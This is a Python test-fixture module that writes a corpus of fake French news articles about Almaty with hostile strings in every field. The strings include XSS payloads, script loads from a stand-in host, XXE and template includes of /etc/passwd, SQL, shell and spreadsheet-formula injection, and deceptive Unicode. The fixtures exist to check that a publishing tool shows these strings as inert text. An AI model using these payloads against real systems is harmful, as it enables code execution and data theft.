"""A corpus of hostile articles: what press texts may carry that must never run, break a build or mislead a reader.

An attack stands in every place that an article has: its title, author, publisher, note and address (in the manifest),
its text, a quotation, beside a figure and a name. `Kind.shown` is what a reader must then find on the article's page,
as text; where it is not given, that is the attack itself. Files with attacks of their own (front matter, HTML, names
of files) are in `FILES`. `LEFT_OUT` are files that no book can hold; each is named with its reason.
"""

from __future__ import annotations

import csv
from dataclasses import dataclass
from pathlib import Path

from hostile_files import FILES, LEFT_OUT

__all__ = ["FILES", "KINDS", "LEFT_OUT", "Kind", "shown_in", "write"]


@dataclass(frozen=True)
class Kind:
    """One way to attack: its name, what is put into an article, what of it must be read on the page.

    `link` says that the attack is tried as the address of the article, too.
    """

    name: str
    attack: str
    shown: tuple[str, ...] = ()
    link: bool = False

    @property
    def file(self) -> str:
        """Name of its file."""
        return f"{self.name}.txt"

    @property
    def visible(self) -> tuple[str, ...]:
        """What must stand on the page of the article, spaces evened out."""
        return self.shown or (" ".join(self.attack.split()),)


def shown_in(kind: Kind, text: str) -> bool:
    """Whether all that must be read of an attack is in the text of a page."""
    return all(part in " ".join(text.split()) for part in kind.visible)


_SEP, _PAR = "\u2028", "\u2029"
_MANY = 150

KINDS: tuple[Kind, ...] = (
    # What HTML runs, loads or is taken over by
    Kind("script", "<script>alert('script')</script>"),
    Kind("script-split", "<scr<script>ipt>alert(1)</scr</script>ipt>"),
    Kind("script-far", '<script src="https://mal.invalid/x.js"></script>'),
    Kind("handler", '<img src=x onerror="alert(1)">'),
    Kind("handler-unquoted", "<body onload=alert(1)><details open ontoggle=alert(2)>"),
    Kind("attribute", '" onmouseover="alert(1)" autofocus onfocus="alert(2)" x="'),
    Kind("attribute-single", "' onpointerover='alert(1)' style='position:fixed;inset:0' y='"),
    Kind("svg", "<svg onload=alert(1)><animate onbegin=alert(2) attributeName=x></svg>"),
    Kind("svg-title", "</title></svg><script>alert('svg')</script>"),
    Kind("math", '<math><mtext><mglyph><style><img src onerror="alert(1)"></style></mglyph></math>'),
    Kind("iframe", '<iframe srcdoc="<script>alert(1)</script>" src="https://mal.invalid/"></iframe>'),
    Kind("object", '<object data="data:text/html,x"></object><embed src="//mal.invalid/e">'),
    Kind("refresh", '<meta http-equiv="refresh" content="0;url=https://mal.invalid/">'),
    Kind("base", '<base href="https://mal.invalid/"><link rel=stylesheet href=//mal.invalid/s.css>'),
    Kind("style", "<style>body{display:none}@import 'https://mal.invalid/s.css';</style>"),
    Kind("form", '<form action="https://mal.invalid/"><input name=q autofocus><button>Oui</form>'),
    Kind("video", "<video poster=//mal.invalid/p><source onerror=alert(1)></video>"),
    Kind("template", "<template shadowrootmode=open><slot></slot></template><noscript></noscript>"),
    Kind("popover", "<button popovertarget=at-hand>Lire</button><div id=at-hand popover>"),
    Kind("clobber", "<a id=kzEvidence><a id=kzEvidence name=articles href=x>"),
    Kind("closing", "</p></div></main></body></html>--><h1>Fin"),
    Kind("unclosed", "<textarea><xmp><plaintext>"),
    Kind("comment", "<!-- commentaire --><!--[if IE]><script>alert(1)</script><![endif]-->"),
    Kind("cdata", "<![CDATA[<script>alert(1)</script>]]><?php system('id') ?>"),
    Kind("doctype", '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>&e;'),
    Kind("entities", "&lt;script&gt;alert(1)&lt;/script&gt; &amp;amp; &quot;&apos;"),
    Kind("entities-numeric", "&#60;script&#62;alert(1)&#x3c;/script&#x3E; &#0; &#xD800;"),
    Kind("entities-double", "&amp;lt;img src=x onerror=alert(1)&amp;gt;"),
    Kind("nested", "<b>" * _MANY + "gras" + "</b>" * _MANY, ("<b><b><b>", "gras</b></b>")),
    # Addresses
    Kind("javascript", "javascript:alert(1)", link=True),
    Kind("javascript-split", "java\tscript:alert(1)//https://exemple.test/", ("java script:alert(1)",), link=True),
    Kind("javascript-case", "JaVaScRiPt:alert`1`", link=True),
    Kind("javascript-control", "\x01javascript:alert(1)", ("U+0001javascript:alert(1)",), link=True),
    Kind("data", "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==", link=True),
    Kind("vbscript", "vbscript:msgbox(1)", link=True),
    Kind("file-address", "file:///etc/passwd", link=True),
    Kind("no-protocol", "//mal.invalid/x", link=True),
    Kind("address-quote", 'https://exemple.test/" onclick="alert(1)', link=True),
    Kind("address-user", "https://lemonde.fr@mal.invalid/", link=True),
    Kind("address-mixed", "https://\u0435xemple.test/", ("[Cyrillic \u0435]",), link=True),
    # Markup languages
    Kind("markdown", "[clic](javascript:alert(1)) ![x](https://mal.invalid/p.png) **gras** `code`"),
    Kind("markdown-reference", "[clic]: javascript:alert(1)\n\n[clic] <https://mal.invalid/>"),
    Kind("myst-directive", "```{raw} html\n<script>alert(1)</script>\n```"),
    Kind("myst-include", "```{include} /etc/passwd\n```\n:::{literalinclude} /etc/passwd\n:::"),
    Kind("myst-eval", "```{eval-rst}\n.. raw:: html\n\n   <script>alert(1)</script>\n```"),
    Kind("myst-code", "```{code-cell} python\nimport os; os.system('id')\n```"),
    Kind("myst-role", "{raw-html}`<img src=x onerror=alert(1)>` {download}`/etc/passwd`"),
    Kind("myst-kz", "```{kz} home\n```\n{kz}`home`"),
    Kind("myst-target", "(figures)=\n{ref}`figures` [](#figures) {numref}`x`"),
    Kind("substitution", "{{ kz_work }} {{ env.app.config }} |release| |today|"),
    Kind("footnote", "[^1] et encore\n\n[^1]: <script>alert(1)</script>"),
    Kind(
        "rst",
        ".. raw:: html\n   :file: /etc/passwd\n\n.. |x| replace:: y\n\n`x <javascript:alert(1)>`_",
    ),
    Kind("dollars", "$$\\frac{1}{0}$$ et $x_{1}$ \\(a\\) \\[b\\]"),
    Kind("latex", "\\input{/etc/passwd} \\write18{id} \\href{javascript:alert(1)}{x} \\begin{verbatim}"),
    # Languages in which pages, notebooks, tables and references are made
    Kind("jinja", "{{ 7*7 }} {% include '/etc/passwd' %} {# x #} {{ ''.__class__.__mro__ }}"),
    Kind("format", "{0} {kz} {0.__class__} %s %(x)s %n {!r:>{width}} f'{1+1}'"),
    Kind("python", '"""; import os; os.system(\'id\') #'),
    Kind("magic", "!id\n%run /etc/passwd\n%%html"),
    Kind("sql", "'; DROP TABLE documents; -- \" OR 1=1"),
    Kind("shell", "$(id) `id` ; id | id && id > /tmp/id \\"),
    Kind("formula", '=HYPERLINK("https://mal.invalid/?"&A1;"clic")'),
    Kind("formula-plus", "+cmd|' /C calc'!A0"),
    Kind("formula-minus", "-2+3+cmd|' /C calc'!A0"),
    Kind("formula-at", "@SUM(1+1)*cmd|' /C calc'!A0"),
    Kind("formula-tab", "\t=1+1", ("=1+1",)),
    Kind("formula-wide", "\uff1dSOMME(1;1)", ("\uff1dSOMME",)),
    Kind("csv", '"a","b"\n"c;d",\'e\','),
    Kind("json", '"}]});alert(1);({"x":[{"y":"'),
    Kind("json-script", "</script><script>alert(1)</script><!--<script>"),
    Kind("line-separators", f"a{_SEP}alert(1){_PAR}b", ("aU+2028alert(1)U+2029b",)),
    Kind("backslashes", '\\u003cscript\\u003e \\x3cscript\\x3e \\\\ \\"'),
    Kind("bibtex", "} , note = {x} } @book{mal, title = {y}}"),
    Kind("ris", "x\r\nER  - \r\nTY  - BOOK\r\nTI  - y"),
    Kind("csl", '<span class="nocase">a</span> \\emph{b}'),
    Kind("prototype", "__proto__ constructor toString hasOwnProperty"),
    Kind("expressions", "(a+)+$ (?=x)* [[:alpha:] \\1 .*? {1,99999} (((("),
    # Characters that mislead
    Kind(
        "ansi", "\x1b[31mrouge\x1b[0m \x1b]0;titre\x07 \x1b]8;;https://mal.invalid\x1b\\", ("U+001B[31mrougeU+001B[0m",)
    ),
    Kind("controls", "a\x08b\x7fc\x85d\x9be", ("aU+0008bU+007FcU+0085dU+009Be",)),
    Kind("override", "\u202e461 stroM\u202c", ("U+202E461 stroMU+202C",)),
    Kind("isolates", "\u2066a\u2067b\u2068c\u2069 \u202ad\u202be\u202df", ("U+2066aU+2067bU+2068cU+2069",)),
    Kind("marks", "a\u200eb\u200fc\u061cd", ("aU+200EbU+200FcU+061Cd",)),
    Kind("zero-width", "To\u200bka\u200cïev\u200d \u2060\ufeffx", ("ToU+200BkaU+200CïevU+200D",)),
    Kind("fillers", "a\u3164b\u115fc\u2800d\uffa0e\u034ff\u17b4g", ("aU+3164bU+115FcU+2800dU+FFA0eU+034FfU+17B4g",)),
    Kind("soft-hyphen", "1\u00ad64 vio\u00adlence", ("1U+00AD64",)),
    Kind("homoglyph", "T\u043eka\u00efev et \u0410lmaty", ("T\u043eka\u00efev[Cyrillic \u043e]", "[Cyrillic \u0410]")),
    Kind("homoglyph-greek", "\u039dazarba\u00efev", ("[Greek \u039d]",)),
    Kind("homoglyph-whole", "\u0410\u0421\u0415 \u041e\u0422\u0410\u041d", ("[Cyrillic]",)),
    Kind("homoglyph-digit", "1\u04314 morts", ("[Cyrillic \u0431]",)),
    Kind("tags", "oui\U000e0069\U000e0067\U000e006e", ("ouiU+E0069U+E0067U+E006E",)),
    Kind("selectors", "a\ufe00b\U000e0100c", ("aU+FE00bU+E0100c",)),
    Kind("noncharacters", "a\ufffeb\uffffc\ufdd0d\U0001fffee", ("aU+FFFEbU+FFFFcU+FDD0dU+1FFFEe",)),
    Kind("private", "a\ue000b\ue010c\ue011d\U000f0000e", ("aU+E000bU+E010cU+E011dU+F0000e",)),
    Kind("interlinear", "a\ufff9b\ufffac\ufffbd\U0001d173e", ("aU+FFF9bU+FFFAcU+FFFBdU+1D173e",)),
    Kind("tower", "Z" + "\u0336\u0300\u0301\u0302" * 20 + "algo", ("+76 marks",)),
    Kind("right-to-left", "\u05d0\u05d1 164 \u0661\u0666\u0664 \u0645\u0648\u062a\u0649 225", ("164",)),
    Kind("emoji", "\U0001f468\u200d\U0001f469\u200d\U0001f467 1\ufe0f\u20e3 \u2764\ufe0f \U0001f3f4"),
    Kind("normal-forms", "e\u0301tat \ufb01n \u212bngstr\u00f6m \uff11\uff16\uff14 \u1e9b\u0323"),
    # Sizes
    Kind("long-word", "a" * 1200, ("a" * 200,)),
    Kind("long-line", "et la foule " * 300, ("et la foule et la foule",)),
    Kind("one-letter", "\n".join("x" * 300), ("x x x",)),
    Kind("brackets", "(" * 900 + "[" * 900, ("(((((",)),
    Kind("quotes", "«" * 300 + "“" * 300, ("«««««",)),
    Kind("digits", "9" * 600 + " morts et 1e999 et 0x7f et 1,000,000,000,000,000 morts", ("1e999 et 0x7f",)),
)


def _text(kind: Kind, number: int) -> str:
    """An article in the manner of the press, with the attack wherever one can stand."""
    attack = kind.attack
    return (
        f"Almaty : {attack}\n\n"
        f"ALMATY, 6 janvier 2022 - Au moins {number} personnes ont été blessées mercredi à Almaty {attack}, a annoncé "
        f"le ministère de la Santé.\n\n"
        f"« {attack} », a déclaré Marat {attack} Toulegenov, porte-parole de la police.\n\n"
        f"Le 5 janvier, {attack} la mairie d'Almaty a été prise d'assaut par les manifestants. Selon {attack}, "
        f"{number + 100} policiers ont été tués.\n"
    )


def _row(kind: Kind, number: int) -> dict[str, str]:
    attack = kind.attack[:2000]
    plain = f"https://exemple.test/{number}?q={attack}"
    return {
        "file": kind.file,
        "title": attack,
        "publisher": f"Gazette {attack}",
        "published": f"2022-01-{6 + number % 20:02}",
        "author": attack,
        "url": attack if kind.link else plain,
        "note": attack,
    }


def write(folder: Path) -> None:
    """Write the corpus to a folder."""
    rows = []
    for number, kind in enumerate(KINDS, start=11):
        (folder / kind.file).write_text(_text(kind, number), encoding="utf-8", newline="")
        rows.append(_row(kind, number))
    for file in (*FILES, *LEFT_OUT):
        (folder / file.name).write_bytes(file.content)
    with (folder / "manifest.csv").open("w", encoding="utf-8", newline="") as opened:
        writer = csv.DictWriter(opened, list(rows[0]))
        writer.writeheader()
        writer.writerows(rows)
